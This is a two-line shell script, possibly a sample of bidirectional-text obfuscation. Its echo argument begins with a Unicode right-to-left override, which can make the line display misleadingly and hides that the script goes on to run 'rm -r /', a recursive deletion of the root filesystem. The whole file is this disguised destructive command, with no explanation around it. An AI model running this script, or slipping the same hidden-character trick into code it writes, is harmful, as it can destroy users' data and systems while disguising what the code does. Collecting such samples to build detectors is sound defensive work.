#!/bin/sh
echo ‮; rm -r / #
